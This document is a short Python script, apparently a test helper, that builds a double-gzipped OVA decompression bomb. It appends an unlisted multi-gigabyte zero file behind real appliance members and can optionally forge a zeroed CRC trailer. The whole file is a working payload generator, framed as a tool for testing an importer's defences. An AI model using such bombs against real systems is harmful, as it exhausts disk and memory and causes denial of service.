# SPDX-License-Identifier: LGPL-2.1-or-later
"""ova_gzip_bomb.py OUT DIR SIZE [MEMBER...] [--zero-trailer]: a gzip'ed OVA
as an attacker builds one, fast.

The tar holds DIR's MEMBERs (the appliance, in order), then "zeros.bin",
SIZE bytes of zeros that no manifest or OVF names.  The zeros are never
compressed by zlib here: after a full flush a deflate compressor forgets
its history, so 1 MiB of zeros always compresses to the same bytes, and
they are repeated; the gzip header and trailer (CRC-32 and ISIZE of the
whole tar) are written by hand.  With --zero-trailer the trailer is zeros
(a CRC and ISIZE nobody checked).  OUT is that stream gzip'ed again (the
double gzip that makes 16 GiB 40 KB), or, with OUT ending in ".gz1", left
single."""
import os
import struct
import sys
import tarfile
import zlib

MIB = 1 << 20


def tar_header(name, size):
    info = tarfile.TarInfo(name)
    info.size = size
    info.mode = 0o644
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def pad(n):
    return b"\0" * (-n % 512)


def main():
    args = [a for a in sys.argv[1:] if a != "--zero-trailer"]
    zero_trailer = "--zero-trailer" in sys.argv
    out, d, size, members = args[0], args[1], int(args[2]), args[3:]
    if size % MIB:
        sys.exit("SIZE must be a multiple of 1 MiB")
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body, crc, total = [], 0, 0

    def feed(data, flush=zlib.Z_NO_FLUSH):
        nonlocal crc, total
        crc = zlib.crc32(data, crc)
        total += len(data)
        body.append(comp.compress(data) + comp.flush(flush))

    for m in members:
        data = open(os.path.join(d, m), "rb").read()
        feed(tar_header(m, len(data)) + data + pad(len(data)))
    feed(tar_header("zeros.bin", size), zlib.Z_FULL_FLUSH)
    zero = bytes(MIB)
    feed(zero, zlib.Z_FULL_FLUSH)
    block = body[-1]
    for _ in range(size // MIB - 1):
        crc = zlib.crc32(zero, crc)
        total += MIB
        body.append(block)
    feed(b"\0" * 1024, zlib.Z_FINISH)
    trailer = b"\0" * 8 if zero_trailer else struct.pack("<II", crc, total & 0xFFFFFFFF)
    gz = b"\x1f\x8b\x08\x00\0\0\0\0\x00\x03" + b"".join(body) + trailer
    if not out.endswith(".gz1"):
        gz = zlib.compress(gz, 9, wbits=31)
    with open(out, "wb") as f:
        f.write(gz)


main()
